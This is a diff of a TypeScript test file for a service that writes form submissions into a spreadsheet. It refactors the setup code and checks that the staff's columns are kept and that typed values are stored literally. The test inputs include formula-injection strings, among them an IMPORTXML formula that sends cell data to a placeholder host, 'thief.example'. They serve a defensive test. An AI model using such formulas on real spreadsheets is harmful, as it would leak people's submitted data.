@@ -10,13 +10,6 @@ const cells = Object.fromEntries(
   Object.entries(forwarded).map(([name, answer]) => [name, [answer].flat().join('; ')]),
 );
 
-/** A spreadsheet in which the staff have written these rows. */
-function sheetOfStaff(...rows: string[][]): Google {
-  const google = new Google();
-  google.tabs.set('Applications', { rows, columns: 26, rules: [] });
-  return google;
-}
-
 test('a form is a row under headings, in the tab of its kind, with the time by which an answer was promised', () => {
   const google = new Google();
   expect(google.post(forwarded)).toEqual({ success: true, reference: '4KX7-9QMD' });
@@ -25,21 +18,20 @@ test('a form is a row under headings, in the tab of its kind, with the time by w
   const { submittedAt } = forwarded;
   google.post({ ...sampleMessage, reference: '2222-3333', submittedAt });
   expect(google.records('Messages')).toMatchObject([sampleMessage]);
-  const tabs = [
-    ['Applications', replyHours.enrolment] as const,
-    ['Messages', replyHours.contact] as const,
-  ];
-  for (const [tab, hours] of tabs) {
+  const hours = ['Applications', 'Messages'].map((tab) => {
     const [record] = google.records(tab);
-    expect(Number(record!.dueAt) - Date.parse(submittedAt)).toBe(hours * 3_600_000);
-  }
+    return (Number(record!.dueAt) - Date.parse(submittedAt)) / 3_600_000;
+  });
+  expect(hours).toEqual([replyHours.enrolment, replyHours.contact]);
 });
 
 test('the columns of the staff, their order and their rows stay; only missing headings are added', () => {
-  const google = sheetOfStaff(
+  const google = new Google();
+  const rows = [
     ['Called?', 'city', ' fullName ', 'Notes'],
     ['yes', 'Bath', 'Ann', 'mornings'],
-  );
+  ];
+  google.tabs.set('Applications', { rows, columns: 26, rules: [] });
   expect(google.post(forwarded).success).toBe(true);
   const [headings, earlier, added] = google.tabs.get('Applications')!.rows;
   expect(headings!.slice(0, 4)).toEqual(['Called?', 'city', ' fullName ', 'Notes']);
@@ -49,15 +41,8 @@ test('the columns of the staff, their order and their rows stay; only missing he
 });
 
 test.each([
-  ...[
-    '=A2&B2',
-    '=IMPORTXML("https://thief.example/?"&C2,"//a")',
-    '+A2',
-    '-A2',
-    '@A2',
-    '\t=A2',
-    "'=A2",
-  ],
+  ...['=A2&B2', '=IMPORTXML("https://thief.example/?"&C2,"//a")', '+A2', '-A2', '@A2', '\t=A2'],
+  "'=A2",
   ...['01632960001', '+447700900123', '1/2', '2025-03-01', 'May 2025', 'TRUE', '10%', '1e5', '  '],
 ])('what was typed stands in its cell letter for letter: %j', (typed) => {
   const google = new Google();
